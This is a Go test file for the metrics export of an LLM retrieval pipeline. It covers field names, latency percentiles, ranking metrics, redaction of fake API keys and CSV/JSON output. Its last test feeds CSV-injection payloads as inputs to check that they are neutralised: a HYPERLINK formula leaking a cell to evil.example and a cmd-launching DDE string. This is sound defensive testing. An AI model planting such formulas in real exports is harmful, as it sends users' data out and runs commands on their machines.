package metrics

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"vika/backend/llm"
)

// fieldNames are the record's fields as the issue names them.
var fieldNames = []string{
	"query_index", "query", "llm_model", "llm_routing_mode", "retrieval_mode", "retrieval_latency_ms",
	"generation_latency_ms", "time_to_first_token_ms", "total_latency_ms", "chunks_retrieved", "chunks_used",
	"reranker_score_mean", "reranker_score_min", "cosine_sim_mean", "bm25_contribution_pct", "bm25_score_share_pct", "hit_at_5",
	"recall_at_5", "mrr", "page_types_used", "fallback_chain",
	"history_applied", "hyde_applied", "multi_query_applied", "rerank_applied",
	"tokens_in", "tokens_out", "citation_valid_pct", "images_sent", "images_withheld", "scope",
}

const fakeKey = "sk-or-v1-0123456789abcdef0123456789abcdef"

func sample() Record {
	return Record{QueryIndex: 2, Query: "How does unit propagation work, in \"DPLL\"?", LLMModel: "gemini/gemini-2.5-flash",
		LLMRoutingMode: RoutingAuto, RetrievalMode: "hybrid", RetrievalLatencyMs: 12.5, GenerationLatencyMs: 840,
		TimeToFirstTokenMs: Float(310.25), TotalLatencyMs: 853.75, ChunksRetrieved: 40, ChunksUsed: 8,
		CosineSimMean: Float(0.41), BM25ContributionPct: 62.5, BM25ScoreSharePct: 48.25, HitAt5: Float(1), RecallAt5: Float(0.5), MRR: Float(0.5),
		PageTypesUsed: map[string]int{"text": 6, "mixed": 2}, FallbackChain: []string{"groq/llama-3.1-8b-instant (rate_limited)", "gemini/gemini-2.5-flash"},
		HistoryApplied: true, RerankApplied: true,
		TokensIn: 2400, TokensOut: 180, CitationValidPct: Float(87.5), ImagesSent: 2}
}

func TestRecordFieldNames(t *testing.T) {
	data, err := json.Marshal(Record{})
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	if err := json.Unmarshal(data, &m); err != nil {
		t.Fatal(err)
	}
	var got []string
	for k := range m {
		got = append(got, k)
	}
	want := slices.Clone(fieldNames)
	slices.Sort(got)
	slices.Sort(want)
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("JSON fields (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(fieldNames, Columns); diff != "" {
		t.Errorf("CSV columns (-want +got):\n%s", diff)
	}
	if m["time_to_first_token_ms"] != nil || m["citation_valid_pct"] != nil {
		t.Error("unknown optional values must be null")
	}
}

func TestSetAnswer(t *testing.T) {
	res := llm.Result{Answer: "Unit propagation ... [a.pdf p.1]", ModelUsed: "gemini/gemini-2.5-flash",
		Plan: llm.Plan{Mode: "manual"}, TTFT: 310 * time.Millisecond, Duration: 1200*time.Millisecond + 500*time.Microsecond,
		Usage: llm.Usage{InputTokens: 2400, OutputTokens: 180},
		Chain: []llm.Attempt{
			{Model: "groq/llama-3.1-8b-instant", ErrorKind: "rate_limited", Error: "429 from groq: invalid key " + fakeKey},
			{Model: "gemini/gemini-2.5-flash"},
		}}
	var r Record
	r.SetAnswer(res)
	want := Record{LLMModel: "gemini/gemini-2.5-flash", LLMRoutingMode: RoutingManual, GenerationLatencyMs: 1200.5,
		TimeToFirstTokenMs: Float(310), FallbackChain: []string{"groq/llama-3.1-8b-instant (rate_limited)", "gemini/gemini-2.5-flash"},
		TokensIn: 2400, TokensOut: 180}
	if diff := cmp.Diff(want, r); diff != "" {
		t.Errorf("SetAnswer (-want +got):\n%s", diff)
	}
	r.SetAnswer(llm.Result{Plan: llm.Plan{Mode: "auto"}})
	if r.TimeToFirstTokenMs != nil {
		t.Error("no text, yet a time to first token")
	}
}

func TestPercentileAndSummary(t *testing.T) {
	var recs []Record
	for i := 1; i <= 20; i++ {
		r := Record{QueryIndex: i, TotalLatencyMs: float64(i * 100)}
		if i%2 == 0 {
			r.CitationValidPct = Float(float64(50 + i))
		}
		recs = append(recs, r)
	}
	got := Summarize(recs)
	want := Summary{Questions: 20, TotalLatencyP50Ms: 1000, TotalLatencyP95Ms: 1900, CitationValidPctMean: Float(61), RelevanceProxy: ProxyNone}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("Summarize (-want +got):\n%s", diff)
	}
	recs[7].RerankApplied = true
	if got := Summarize(recs).RelevanceProxy; got != ProxyReranker {
		t.Errorf("one reranked record: proxy %q, want %q", got, ProxyReranker)
	}
	for _, tt := range []struct {
		xs   []float64
		p    float64
		want float64
	}{
		{nil, 50, 0}, {[]float64{7}, 95, 7}, {[]float64{4, 1, 3, 2}, 50, 2}, {[]float64{4, 1, 3, 2}, 95, 4}, {[]float64{4, 1, 3, 2}, 75, 3},
	} {
		if got := Percentile(tt.xs, tt.p); got != tt.want {
			t.Errorf("Percentile(%v, %v) = %v, want %v", tt.xs, tt.p, got, tt.want)
		}
	}
	if s := Summarize(nil); s.Questions != 0 || s.CitationValidPctMean != nil {
		t.Errorf("Summarize(nil) = %+v", s)
	}
}

func TestRanking(t *testing.T) {
	f := func(v float64) *float64 { return &v }
	tests := []struct {
		name              string
		rel               []bool
		candidates        int
		hit, recall, mrrV *float64
	}{
		{"empty", nil, 3, nil, nil, nil},
		{"one of two in the top 5", []bool{false, false, true, false, false, false, true}, 2, f(1), f(0.5), f(1.0 / 3)},
		{"the list's relevant raise a low count", []bool{true, true}, 0, f(1), f(1), f(1)},
		// Recall counts every relevant candidate retrieved, not only those
		// in the list: 2 of 8 are in the top 5.
		{"candidates beyond the list", []bool{true, false, false, true, false, false}, 8, f(1), f(0.25), f(1)},
		// MRR looks within the top 5 only.
		{"first relevant at rank 6", []bool{false, false, false, false, false, true}, 1, f(0), f(0), f(0)},
		{"none relevant", []bool{false, false}, 0, f(0), nil, f(0)},
	}
	for _, tt := range tests {
		hit, recall, mrr := Ranking(tt.rel, tt.candidates, 5)
		if diff := cmp.Diff([]*float64{tt.hit, tt.recall, tt.mrrV}, []*float64{hit, recall, mrr}); diff != "" {
			t.Errorf("%s: Ranking(%v, %d) (-want +got):\n%s", tt.name, tt.rel, tt.candidates, diff)
		}
	}
	if diff := cmp.Diff([]bool{true, false, true}, Relevant([]float64{0.2, -1.5, 0}, RerankerCutoff)); diff != "" {
		t.Errorf("Relevant (-want +got):\n%s", diff)
	}
	if n := CountRelevant([]float64{0.2, -1.5, 0, -0.01, 3}, RerankerCutoff); n != 3 {
		t.Errorf("CountRelevant = %d, want 3", n)
	}
}

func TestMeanMin(t *testing.T) {
	if m, lo := MeanMin(nil); m != nil || lo != nil {
		t.Error("MeanMin(nil) not nil")
	}
	if m, lo := MeanMin([]float64{2, -1, 5}); *m != 2 || *lo != -1 {
		t.Errorf("MeanMin = %v, %v", *m, *lo)
	}
	if diff := cmp.Diff(map[string]int{"text": 2, "scanned": 1}, CountPageTypes([]string{"text", "scanned", "text"})); diff != "" {
		t.Error(diff)
	}
}

func TestWriteCSV(t *testing.T) {
	abstained := Record{QueryIndex: 3, Query: "my key is " + fakeKey + ", and gsk_abcdefghijklmnopqrstuvwxyz012345 too?",
		LLMRoutingMode: RoutingAbstained, RetrievalMode: "bm25", TotalLatencyMs: 4.5, BM25ContributionPct: 100,
		Scope: "devlin2019_bert.pdf, he2015_resnet.pdf p.3-5"}
	var b bytes.Buffer
	if err := WriteCSV(&b, []Record{sample(), abstained}); err != nil {
		t.Fatal(err)
	}
	want := strings.Join(fieldNames, ",") + "\n" +
		`2,"How does unit propagation work, in ""DPLL""?",gemini/gemini-2.5-flash,auto,hybrid,12.5,840,310.25,853.75,40,8,,,0.41,62.5,48.25,1,0.5,0.5,mixed:2;text:6,groq/llama-3.1-8b-instant (rate_limited) > gemini/gemini-2.5-flash,true,false,false,true,2400,180,87.5,2,0,` + "\n" +
		`3,"my key is [redacted], and [redacted] too?",,abstained,bm25,0,0,,4.5,0,0,,,,100,0,,,,,,false,false,false,false,0,0,,0,0,"devlin2019_bert.pdf, he2015_resnet.pdf p.3-5"` + "\n"
	if diff := cmp.Diff(want, b.String()); diff != "" {
		t.Errorf("CSV (-want +got):\n%s", diff)
	}
}

func TestWriteJSON(t *testing.T) {
	r := sample()
	r.Query = "Mistral key 0123456789abcdefABCDEF0123456789ab? and AIzaSyA0123456789abcdefghijklmnopqrstuv"
	recs := []Record{r}
	var b bytes.Buffer
	s := Summarize(recs)
	if err := WriteJSON(&b, s, recs); err != nil {
		t.Fatal(err)
	}
	for _, key := range []string{"0123456789abcdefABCDEF0123456789ab", "AIzaSyA0123456789"} {
		if strings.Contains(b.String(), key) {
			t.Errorf("the export holds a key: %s", b.String())
		}
	}
	var got Export
	if err := json.Unmarshal(b.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	want := sample()
	want.Query = "Mistral key [redacted]? and [redacted]"
	if diff := cmp.Diff(Export{Summary: s, Records: []Record{want}}, got); diff != "" {
		t.Errorf("JSON round trip (-want +got):\n%s", diff)
	}
	if recs[0].Query != r.Query {
		t.Error("WriteJSON changed its input")
	}
}

func TestRedactKeepsText(t *testing.T) {
	for _, s := range []string{
		"What is the state-of-the-art-transformer-based-language-model-2019 score?",
		"Explain 1810.04805 and arXiv:1706.03762v5",
		"sk-short is fine",
	} {
		if got := Redact(s); got != s {
			t.Errorf("Redact(%q) = %q", s, got)
		}
	}
}

func TestStopwatch(t *testing.T) {
	now := time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)
	clock := func() time.Time { return now }
	sw := Start(clock)
	now = now.Add(12 * time.Millisecond)
	if d := sw.Lap(); d != 12*time.Millisecond {
		t.Errorf("first lap %v", d)
	}
	now = now.Add(800 * time.Millisecond)
	if d := sw.Lap(); d != 800*time.Millisecond {
		t.Errorf("second lap %v", d)
	}
	now = now.Add(3 * time.Millisecond)
	if d := sw.Total(); d != 815*time.Millisecond || Ms(d) != 815 {
		t.Errorf("total %v", d)
	}
}

// TestWriteCSVFormulas: text cells that a spreadsheet would run as a
// formula (CSV injection) start with an apostrophe; numbers stay numbers.
func TestWriteCSVFormulas(t *testing.T) {
	for _, q := range []string{`=HYPERLINK("https://evil.example?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"} {
		neg := -0.25
		r := Record{QueryIndex: 1, Query: q, LLMModel: "=cmd", RetrievalMode: "bm25", RerankerScoreMin: &neg}
		var b bytes.Buffer
		if err := WriteCSV(&b, []Record{r}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		cells := map[string]string{}
		for i, name := range rows[0] {
			cells[name] = rows[1][i]
		}
		if cells["query"] != "'"+q || cells["llm_model"] != "'=cmd" || cells["reranker_score_min"] != "-0.25" {
			t.Errorf("query %q: cells query=%q llm_model=%q reranker_score_min=%q", q, cells["query"], cells["llm_model"], cells["reranker_score_min"])
		}
	}
}
